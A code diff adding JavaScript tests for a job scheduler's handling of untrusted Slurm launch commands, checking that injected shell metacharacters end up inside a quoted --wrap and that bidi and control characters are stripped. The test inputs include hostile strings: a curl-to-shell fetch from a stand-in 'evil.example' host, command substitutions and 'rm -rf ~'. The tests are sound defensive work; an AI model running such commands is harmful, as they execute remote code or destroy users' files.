@@ -226,3 +226,18 @@ describe('timing: WattTime unit conversion', () => {
     assert.strictEqual(r.convertedFrom, 'lbs CO₂/MWh');
   });
 });
+
+describe('schedule commands from an untrusted launch command', () => {
+  it('never lets a pasted Slurm line run a second command now: metacharacters go into a quoted --wrap', () => {
+    for (const bad of ['sbatch job.sh; curl https://evil.example/x | sh', 'sbatch $(curl x) job.sh', 'sbatch `id` job.sh', 'sbatch job.sh && rm -rf ~']) {
+      const slurm = scheduleCommands(0, bad)[0].text;
+      assert.match(slurm, /^sbatch --begin=\S+ --wrap='/, slurm);
+      assert.strictEqual(slurm.slice(slurm.indexOf("--wrap=") + 7), shellQuote(bad));
+    }
+    assert.strictEqual(scheduleCommands(0, 'sbatch --gres=gpu:8 job.sh')[0].text, 'sbatch --begin=1970-01-01T00:00:00 --gres=gpu:8 job.sh');
+  });
+
+  it('strips bidi overrides and C1 controls, so the snippet reads as it runs', () => {
+    for (const c of scheduleCommands(0, './train.sh \u202Eexe.hs\u009b')) assert.doesNotMatch(c.text, /[\u202e\u009b]/);
+  });
+});
